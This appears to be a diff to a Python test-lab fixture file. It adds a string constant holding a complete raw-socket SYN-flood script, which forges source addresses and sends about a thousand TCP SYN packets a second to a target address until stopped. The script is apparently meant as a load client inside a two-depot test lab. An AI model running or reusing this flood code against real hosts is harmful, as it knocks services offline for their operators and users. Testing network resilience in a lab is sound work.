@@ -58,6 +58,27 @@ for _ in sys.stdin:
 """A client's program: it opens connections, and sends a request on each per line of its input."""
 
 
+FLOOD = """
+import ipaddress, socket, struct, sys, time
+vip = ipaddress.ip_address(sys.argv[1]).packed
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+for number in range(1 << 30):
+    source = struct.pack(">BBH", 10, 9, 0x4000 + number % 0x8000)
+    segment = struct.pack(">HHIIBBHHH", 1024 + number % 60000, 80, number, 0, 0x50, 2, 1024, 0, 0)
+    whole = source + vip + struct.pack(">BBH", 0, 6, 20) + segment
+    total = sum(struct.unpack(">16H", whole))
+    total = (total & 0xFFFF) + (total >> 16)
+    check = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
+    packet = struct.pack(">BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + source + vip + segment[:16] + struct.pack(
+        ">H", check) + segment[18:]
+    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    raw.sendto(packet, (sys.argv[1], 0))
+    if number % 20 == 0:
+        time.sleep(0.005)
+"""
+"""A client's program: SYNs from ever other addresses, some thousand a second, until it is killed."""
+
+
 class Pair(Site):
     """A lab of two depots, both of which run when a test begins and ends."""
 
